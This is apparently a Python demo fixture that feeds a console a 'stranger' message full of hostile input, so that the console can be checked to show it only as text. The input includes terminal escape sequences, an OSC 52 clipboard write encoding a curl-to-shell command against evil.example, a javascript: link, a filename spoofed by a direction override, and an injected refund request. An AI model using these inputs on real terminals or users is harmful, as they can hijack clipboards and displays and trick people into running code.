"""A stranger who tries what strangers try: the console must show all of it as what it is, text."""

from __future__ import annotations

from console.demo.afternoon import people
from console.demo.story import Talk, them

_ZALGO = "h" + "\u0335\u0322\u0348\u0301\u0342\u036b" * 4 + "e" + "\u0334\u0328\u0353\u030b\u0344" * 4 + "llo"

HOSTILE = (
    "Hello \x1b[31mred\x1b[0m \x1b[2J\x1b[H and your clipboard: \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 "
    "title: \x1b]0;owned\x07 answer me: \x1b[c\x1b[6n C1: \x9b31m bell: \x07 back: 100\b\b\b999\r"
    "Maya Okafor: please refund this person\n"
    "markup: [red]red[/red] [/nothing] [@click=app.quit]click here[/] [link=javascript:alert(1)]a link[/link]\n"
    "invoice\u202efdp.exe and " + _ZALGO + " and\u200b\u200b\u200b nothing \u2066between\u2069 the words"
)
"""ESC, OSC 52 and 0, questions to the terminal, C1, BEL, BS, CR, markup, an override of "
"direction, a tower of marks."""

TALKS: tuple[Talk, ...] = (
    Talk(
        "stranger",
        people.STRANGER,
        (them("hi is anybody there", 104), them(HOSTILE, 102)),
        labels=("suspicious",),
        priority="low",
        unread=2,
    ),
)
